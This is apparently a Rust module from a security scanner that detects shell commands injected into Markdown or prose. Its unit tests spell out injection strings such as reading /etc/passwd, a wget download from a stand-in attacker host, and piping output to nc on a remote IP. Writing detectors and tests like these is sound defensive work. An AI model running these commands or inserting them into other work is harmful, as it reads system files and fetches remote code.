//! Commands in documents. Markdown quotes code in fences, between backticks and by indentation;
//! each other line is inspected alone, so that prose around a command does not hide it.

use super::{
    argument::is_prose, evidence::MAX_PROSE_OF_DISGUISED, may_hold_command,
    rejection::cannot_contain_command, shell,
};
use crate::{detect::Match, field::FieldKind, prefilter::Bytes};
use std::borrow::Cow;

pub(super) fn detect(value: &[u8], kind: FieldKind) -> Option<Match<'static>> {
    let mut start = 0;
    let mut is_fenced = false;
    for line in value.split(|&byte| byte == b'\n') {
        let from = start;
        start += line.len() + 1;
        let text = line.trim_ascii_start();
        if text.starts_with(b"```") || text.starts_with(b"~~~") {
            is_fenced = !is_fenced;
            continue;
        }
        let may_match = || may_hold_command(line, Bytes::of(line), kind) && !cannot_contain_command(line);
        if is_fenced || is_quoted(line, text) || !may_match() {
            continue;
        }
        let matched = shell(&without_spans(line), kind).filter(|it| from == 0 || !starts_line(it, line));
        if let Some(matched) = matched {
            return Some(Match { span: from + matched.span.start..from + matched.span.end, ..matched });
        }
    }
    None
}

/// Whether the value has lines, and so much prose that only a command after a separator is evidence:
/// its lines say as much as the whole.
pub(super) fn is_text_of_lines(value: &[u8]) -> bool {
    // A backslash continues the line.
    if memchr::memmem::find(value, b"\\\n").is_some() {
        return false;
    }
    let lines = value.split(|&byte| byte == b'\n').filter(|line| !line.is_empty());
    let unknown = lines.clone().filter(|line| cannot_contain_command(line));
    let words = unknown.flat_map(|line| line.split(u8::is_ascii_whitespace)).filter(|word| is_prose(word));
    lines.clone().nth(1).is_some() && words.take(MAX_PROSE_OF_DISGUISED + 1).count() > MAX_PROSE_OF_DISGUISED
}

/// Commands on single lines and between backticks of another value, where nothing is quoted: prose
/// around a command does not hide it.
pub(super) fn detect_in_lines(value: &[u8], kind: FieldKind) -> Option<Match<'static>> {
    let spans = value.split(|&byte| byte == b'`').skip(1).step_by(2).filter(|span| begins_mid_command(span));
    let parts = lines(value).filter(|line| line.len() < value.len()).chain(spans);
    parts
        .filter(|part| may_hold_command(part, Bytes::of(part), kind) && !cannot_contain_command(part))
        .find_map(|part| {
            let start = part.as_ptr().addr() - value.as_ptr().addr();
            let matched = shell(part, kind).filter(|it| !starts_line(it, part))?;
            Some(Match { span: start + matched.span.start..start + matched.span.end, ..matched })
        })
}

/// The lines of a value but fences; a line after a separator begins with that.
fn lines(value: &[u8]) -> impl Iterator<Item = &[u8]> {
    let mut separator = None;
    value.split(|&byte| byte == b'\n').filter_map(move |line| {
        let text = line.trim_ascii();
        if text.is_empty() {
            return None;
        }
        let end = line.as_ptr().addr() - value.as_ptr().addr() + line.len();
        let start = separator.take().unwrap_or(end - line.len());
        if matches!(text.last(), Some(b';' | b'|' | b'&')) {
            separator = Some(end - line.trim_ascii_start().len() + text.len() - 1);
        }
        (!text.starts_with(b"```")).then(|| &value[start..end])
    })
}

/// `;id`, `|id`, `&& id`, `$(id)`
fn begins_mid_command(span: &[u8]) -> bool {
    matches!(span.trim_ascii_start(), [b';' | b'|' | b'&', ..] | [b'$', b'(', ..])
}

/// Indented code, a heading, a prompt or the row of a table.
fn is_quoted(line: &[u8], text: &[u8]) -> bool {
    let is_marked = matches!(text, [b'$' | b'#' | b'>' | b'%', b' ', ..]) || text.starts_with(b"##");
    let is_row = matches!(text, [b'|', cells @ ..] if memchr::memchr(b'|', cells).is_some_and(|at| at > 0));
    line.starts_with(b"    ") || line.starts_with(b"\t") || is_marked || is_row
}

/// A command alone on its line is an example; an injected one follows other content.
fn starts_line(matched: &Match<'_>, line: &[u8]) -> bool {
    let is_first = matched.span.start == 0 && line.first().is_some_and(u8::is_ascii_alphanumeric);
    is_first
        || matches!(
            matched.signature,
            "rce-command-line" | "rce-program-path" | "rce-command-chain" | "rce-glob-path"
        )
}

/// The line with blanks in place of code between backticks.
fn without_spans(line: &[u8]) -> Cow<'_, [u8]> {
    if memchr::memchr(b'`', line).is_none() {
        return Cow::Borrowed(line);
    }
    let mut plain = line.to_vec();
    let mut open: Option<usize> = None;
    for at in memchr::memchr_iter(b'`', line) {
        match open.take() {
            Some(from) => plain[from..=at].fill(b' '),
            None => open = Some(at),
        }
    }
    Cow::Owned(plain)
}

#[cfg(test)]
mod tests {
    use super::*;

    const PROSE: &str = "We had a long day at the lake and nobody wanted to go home early.\n\
        The children swam, the dog slept, and the old boat stayed where it was.\n\
        In the evening there was soup, and somebody told the story of the pike again.\n\
        It grows longer every year, the pike does, and so does the story of it.\n\
        Nobody minds, because the soup is good and the evenings are long here.\n";

    fn finds(line: &str) -> bool {
        let text = format!("{PROSE}{line}\n{PROSE}");
        assert!(crate::detect::document::is_document(text.as_bytes()));
        detect(text.as_bytes(), FieldKind::Value).is_some()
    }

    #[test]
    fn finds_commands_inside_prose() {
        for line in [
            "; cat /etc/passwd",
            "x; wget http://evil.example/x -O /tmp/x",
            "1 && whoami",
            "a | nc 203.0.113.9 4444",
            "|id",
            "$(id)",
        ] {
            assert!(finds(line), "{line}");
        }
    }

    #[test]
    fn finds_commands_that_continue_over_lines_of_a_text() {
        const TEXT: &str =
            "The children swam, the dog slept, and the old boat stayed.\nIn the evening there was soup";
        for command in ["; cat /etc/passwd", ";\ncat /etc/passwd", "; wget \\\nhttp://198.51.100.1/x"] {
            let text = format!("{TEXT}{command}");
            let found =
                super::super::detect(text.as_bytes(), Bytes::of(text.as_bytes()), FieldKind::Value, false);
            assert!(!found.is_empty(), "{text}");
        }
    }

    #[test]
    fn finds_a_command_before_prose() {
        let text = format!("cat /etc/passwd\n{PROSE}{PROSE}");
        assert!(detect(text.as_bytes(), FieldKind::Value).is_some());
    }

    #[test]
    fn passes_quoted_commands() {
        for line in [
            "```\ncd /tmp; cat /etc/passwd\n```",
            "    ls -la | grep x; cat /etc/passwd",
            "Then run `x; cat /etc/passwd` and wait.",
            "$ make; sudo make install",
            "| id | name |",
        ] {
            assert!(!finds(line), "{line}");
        }
    }
}
